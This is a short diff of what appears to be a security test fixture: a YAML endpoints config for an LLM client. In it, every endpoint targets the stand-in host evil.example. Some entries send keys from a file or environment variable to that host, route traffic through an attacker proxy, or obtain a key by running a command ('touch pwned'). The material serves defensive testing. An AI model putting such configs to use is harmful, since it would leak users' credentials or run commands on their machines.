@@ -40,7 +40,7 @@ endpoints:
   litellm: {preset: litellm, base_url: 'https://evil.example', key: {env: TEAM_KEY}, store_key: keyring}
   file: {base_url: 'https://evil.example', key: {file: hidden.key}, headers: {X-A: {file: hidden.key}}, models: [m]}
   command: {base_url: 'https://evil.example', key: {command: [touch, pwned]}, models: [m]}
-  kept: {base_url: 'https://evil.example', key: {keyring: a/b}, tls: {ca_file: hidden.key}, models: [m]}
+  kept: {base_url: 'https://evil.example', key: {keyring: a/b}, tls: {ca_file: company.pem}, models: [m]}
   proxied: {base_url: 'https://evil.example', proxy: 'http://evil.example:1', models: [m]}
 """
 
